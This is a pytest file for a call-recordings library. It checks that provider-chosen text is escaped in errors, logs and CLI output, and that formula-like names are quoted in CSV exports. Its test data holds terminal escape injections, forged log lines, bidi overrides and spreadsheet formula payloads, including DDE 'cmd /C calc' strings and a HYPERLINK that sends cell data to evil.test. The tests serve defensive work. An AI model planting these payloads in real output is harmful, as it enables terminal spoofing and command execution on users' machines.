"""Text a provider (or a call's participant) chose, shown or written where it could act: error
bodies holding ESC sequences, CR/LF and bidi controls reach terminals and logs as one line of
visible escapes, and names that read as spreadsheet formulas reach CSV files quoted."""

from __future__ import annotations

import csv
import datetime as dt
import json
import logging
import re
import subprocess
import threading
import warnings
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import polars as pl
import pytest
from provider_cases import CREDENTIALS, LOADER_PARAMS, sync_loader

import recanalytics as ra
from recanalytics.providers.base import Loader
from recanalytics.redact import visible
from recanalytics.sandbox import Sandbox
from recanalytics.spreadsheet import spreadsheet_ready
from tests.conftest import FAST_RETRY
from tests.test_environment import cli

HOST = "https://api.hostile.test"
PERIOD = {"since": "2026-01-01", "until": "2026-02-01"}
# A terminal title, a cleared screen, colours, an OSC 8 link, a forged status line and log
# record, a right-to-left override and a C1 CSI.
HOSTILE = (
    "Bad request\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[H\x1b[31mACCOUNT SUSPENDED\x1b[0m"
    "\x1b]8;;http://evil.test/\x07click here\x1b]8;;\x07\nrecanalytics: twilio: completed, "
    "1000 rows\r\nINFO:fake:injected line \u202egpj.exe \x9b2J\u2028\x00\x7f"
)
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def one_clean_line(text: str) -> None:
    assert CONTROL.search(text) is None, repr(text)


class ErrorServer:
    """Answers 503 (retried) then 400, each with the hostile message and code."""

    def __init__(self, body: dict[str, Any] | None = None) -> None:
        self.body = body or {"message": HOSTILE, "code": f"E\x1b[2J{HOSTILE}", "status": 400}
        self.calls = 0
        self.transport = httpx.MockTransport(self.handle)

    def handle(self, request: httpx.Request) -> httpx.Response:
        self.calls += 1
        return httpx.Response(503 if self.calls == 1 else 400, json=self.body)


@pytest.mark.parametrize("loader", LOADER_PARAMS)
def test_a_hostile_error_body_is_one_visible_line_in_the_error_and_the_retry_log(
    loader: Loader[Any], caplog: pytest.LogCaptureFixture
) -> None:
    server = ErrorServer()
    caplog.set_level(logging.INFO, logger="recanalytics")
    options = {"credentials": CREDENTIALS[loader.provider], "base_url": HOST}
    with pytest.raises(ra.ProviderError) as info:
        sync_loader(loader)(transport=server.transport, retry=FAST_RETRY, **options, **PERIOD)
    error = info.value
    for text in (str(error), error.message, str(error.code)):
        one_clean_line(text)
    # What was said is all there, escaped: the forged line is visibly part of the message.
    assert "\\x1b]0;PWNED-TITLE\\x07" in error.message and "\\u202egpj.exe" in error.message
    assert "\\nrecanalytics: twilio: completed, 1000 rows\\r\\nINFO:fake" in error.message
    retries = [r.getMessage() for r in caplog.records if "retry" in r.getMessage()]
    assert retries and "\\x1b[2J" in retries[0]
    for record in caplog.records:
        one_clean_line(record.getMessage())


def test_zoom_errors_list_and_load_with_status_are_one_visible_line() -> None:
    server = ErrorServer({"errors": [{"code": "\x1b[31m124", "message": HOSTILE}]})
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        result = ra.load_with_status(
            ["zoom"],
            credentials={"zoom": CREDENTIALS["zoom"]},
            base_url=HOST,
            transport=server.transport,
            retry=FAST_RETRY,
            **PERIOD,
        )
    status = result.status["zoom"]
    assert status.state == "failed" and "\\x1b]8;;http://evil.test/" in str(status.error)
    one_clean_line(str(status.error))
    for warning in caught:
        one_clean_line(str(warning.message))


def test_a_redirect_location_is_shown_with_its_controls_visible() -> None:
    # A C1 CSI (obs-text, which HTTP/1.1 lets through) and a right-to-left override in UTF-8.
    location = "https://evil.test/\x9b2J/\u202egpj.exe"

    def handle(request: httpx.Request) -> httpx.Response:
        return httpx.Response(302, headers=[(b"Location", location.encode())])

    with pytest.raises(ra.ProviderError) as info:
        ra.load_twilio_recordings(
            credentials=CREDENTIALS["twilio"], transport=httpx.MockTransport(handle), **PERIOD
        )
    assert "redirect to https://evil.test/\\x9b2J/\\u202egpj.exe," in str(info.value)
    one_clean_line(str(info.value))


def test_a_hostile_transport_error_is_one_visible_line_in_the_media_result(
    tmp_path: Path,
) -> None:
    def handle(request: httpx.Request) -> httpx.Response:
        if request.url.host == "storage.test":
            raise httpx.RemoteProtocolError(HOSTILE, request=request)
        return httpx.Response(200, json={"redirect_to": "https://storage.test/RT1.mka"})

    frame = pl.DataFrame(
        {
            "provider": ["twilio"],
            "recording_id": ["RT1"],
            "media_url": [f"{HOST}/v1/Recordings/RT1/Media"],
            "container": ["mka"],
            "status": ["completed"],
        }
    )
    result = ra.download_media(
        frame,
        tmp_path,
        credentials={"twilio": CREDENTIALS["twilio"]},
        base_url=HOST,
        transport=httpx.MockTransport(handle),
        retry=FAST_RETRY,
    )
    assert result["status"].to_list() == ["failed"]
    error = result["error"][0]
    assert error == f"RemoteProtocolError: {visible(HOSTILE)}"
    one_clean_line(error)


# --- the command line, against a real server on 127.0.0.1 --------------------------------


class _Hostile(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = json.dumps({"code": 20001, "message": HOSTILE, "status": 400}).encode()
        self.send_response(400)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def hostile_server() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hostile)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


def run_cli(*argv: str) -> subprocess.CompletedProcess[str]:
    return cli(
        list(argv),
        {
            "TWILIO_ACCOUNT_SID": "AC" + "0123456789abcdef" * 2,
            "TWILIO_AUTH_TOKEN": "tok_secret_value_123456",
        },
    )


def test_the_command_prints_a_hostile_error_as_one_visible_line(
    hostile_server: str, tmp_path: Path
) -> None:
    load = run_cli(
        "load",
        "twilio",
        "--base-url",
        hostile_server,
        "--out",
        str(tmp_path / "l.parquet"),
        "--quiet",
    )
    assert load.returncode == 1
    lines = load.stdout.splitlines()
    assert len(lines) == 2 and lines[0].startswith("twilio: failed, 0 rows (twilio: Bad request")
    # Nothing loaded: the file is not written, and the last line says so (docs/cli.md).
    assert lines[1].startswith("nothing loaded:") and load.stderr == ""
    assert not (tmp_path / "l.parquet").exists()
    assert "\\x1b]0;PWNED-TITLE\\x07" in lines[0]
    archive = run_cli(
        "archive", "twilio", "--base-url", hostile_server, "--out", str(tmp_path / "a"), "--quiet"
    )
    assert archive.returncode == 2 and archive.stdout == ""
    assert archive.stderr.count("\n") == 1
    assert archive.stderr.startswith("recanalytics: twilio: Bad request\\x1b]0;PWNED-TITLE")
    for text in (load.stdout, archive.stderr):
        one_clean_line(text.replace("\n", ""))


# --- CSV files for spreadsheets -------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
HARMLESS = ["room\u202egpj.exe", "a'b\"c`d\\e", "mic-1", "line1\nline2"]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as file:
        return list(csv.DictReader(file))


class Renaming(httpx.AsyncBaseTransport):
    """The sandbox, with every listed recording's ``sid`` and ``track_name`` set to hostile
    names (a participant's app chooses a track's name)."""

    def __init__(self, inner: httpx.AsyncBaseTransport) -> None:
        self.inner = inner
        self.names: dict[str, str] = {}

    def name(self, sid: str) -> str:
        if sid not in self.names:
            pool = FORMULAS + HARMLESS
            self.names[sid] = f"{pool[len(self.names) % len(pool)]}{len(self.names)}"
        return self.names[sid]

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        response = await self.inner.handle_async_request(request)
        await response.aread()
        body = json.loads(response.content) if response.status_code == 200 else None
        if not isinstance(body, dict) or not {"recordings", "compositions"} & body.keys():
            return response
        for record in body.get("recordings", []) + body.get("compositions", []):
            record["sid"] = record["track_name"] = self.name(record["sid"])
        return httpx.Response(200, json=body, request=request)


def test_archive_csv_files_quote_formulas_and_keep_every_other_value(tmp_path: Path) -> None:
    box = Sandbox(seed=7, size=40, providers="twilio", small_media=True)
    options = box.options("twilio")
    renaming = Renaming(options.pop("transport"))
    out = tmp_path / "archive"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ra.LoadWarning)  # planted media faults
        ra.archive_twilio(
            out, media=True, since="2025-01-01", transport=renaming, progress=False, **options
        )
    exact = pl.read_parquet(out / "recordings.parquet")
    rows = read_csv(out / "recordings.csv")
    media = {row["recording_id"]: row for row in read_csv(out / "media.csv")}
    assert len(rows) == exact.height >= 2 * len(FORMULAS + HARMLESS) and len(media) == len(rows)
    formulas = 0
    for row, record in zip(rows, exact.iter_rows(named=True), strict=True):
        sid, name = record["recording_id"], record["track_name"]
        assert sid in renaming.names.values()  # the parquet file keeps the exact value
        expected = "'" + sid if sid.startswith(tuple(FORMULAS)) else sid
        formulas += expected != sid
        assert row["recording_id"] == expected and media[expected]["provider"] == "twilio"
        if name is not None:  # a track's (compositions have none)
            assert name == sid and row["track_name"] == expected
        assert row["size_bytes"] == str(record["size_bytes"] or "")
        seconds = record["duration"].total_seconds() if record["duration"] else None
        assert row["duration_s"] == ("" if seconds is None else str(seconds))
    assert formulas >= len(FORMULAS)
    for cells in [*rows, *media.values()]:
        assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells.values())


def test_explorer_csv_export_quotes_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    frame = ra.demo(size=60).head(len(FORMULAS + HARMLESS))
    frame = frame.with_columns(track_name=pl.Series(FORMULAS + HARMLESS), cost=pl.lit(0.25))
    ex = ra.explore(frame, renderer="svg")
    path = ex.export("csv", tmp_path / "selection.csv")
    rows = read_csv(path)
    assert [row["track_name"] for row in rows] == [
        *("'" + name for name in FORMULAS),
        *HARMLESS,
    ]
    assert {row["cost"] for row in rows} == {"0.25"}
    exact = ex.panel.filtered
    assert [row["size_bytes"] for row in rows] == [str(n or "") for n in exact["size_bytes"]]
    seconds = [d.total_seconds() if d is not None else None for d in exact["duration"]]
    assert [float(row["duration_s"]) if row["duration_s"] else None for row in rows] == seconds
    assert pl.read_parquet(ex.export("parquet", tmp_path / "sel")).equals(exact)


def test_spreadsheet_ready_leaves_numbers_times_and_plain_text_as_they_are(
    tmp_path: Path,
) -> None:
    moment = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    frame = pl.DataFrame(
        {
            "n": [-1, 2],
            "x": [-0.5, None],
            "at": [moment, None],
            "ok": [True, False],
            "t": ["-1", "plain"],
        }
    )
    ready = spreadsheet_ready(frame)
    assert ready.drop("t").equals(frame.drop("t"))
    assert ready["t"].to_list() == ["'-1", "plain"]  # text, even when it reads as a number
    path = tmp_path / "t.csv"
    ready.write_csv(path)
    assert [(row["n"], row["x"]) for row in read_csv(path)] == [("-1", "-0.5"), ("2", "")]


def test_visible_escapes_every_control_and_keeps_other_text() -> None:
    controls = "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)]))
    bidi = "\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    shown = visible(f"a{controls}{bidi}b")
    one_clean_line(shown)
    assert shown.startswith("a\\x00\\x01") and "\\t\\n\\x0b\\x0c\\r" in shown
    assert shown.endswith("\\u2066\\u2067\\u2068\\u2069b")
    plain = "café ☕ 日本語 a\\b ‘quoted’ \u200b"
    assert visible(plain) == plain


def test_spreadsheet_ready_writes_any_duration_as_its_seconds() -> None:
    # total_microseconds() wraps past 2**63 µs: 10**16 ms read as -8.4e12 s.
    frame = pl.DataFrame({"duration": pl.Series([10**16, 237_081, None], dtype=pl.Duration("ms"))})
    assert spreadsheet_ready(frame)["duration_s"].to_list() == [1e13, 237.081, None]


def test_spreadsheet_ready_quotes_formulas_in_enum_and_categorical_columns() -> None:
    # Found by mutation testing (session 24): a user's frame may hold names as a Categorical
    # (pandas' "category", polars' own); they reach the CSV as text, quoted like any other.
    names = ['=HYPERLINK("http://evil.test")', "mic"]
    frame = pl.DataFrame(
        {
            "category": pl.Series(names, dtype=pl.Categorical),
            "enum": pl.Series(names, dtype=pl.Enum(names)),
        }
    )
    ready = spreadsheet_ready(frame)
    assert ready.schema == pl.Schema({"category": pl.String, "enum": pl.String})
    quoted = ["'" + names[0], "mic"]
    assert ready["category"].to_list() == ready["enum"].to_list() == quoted
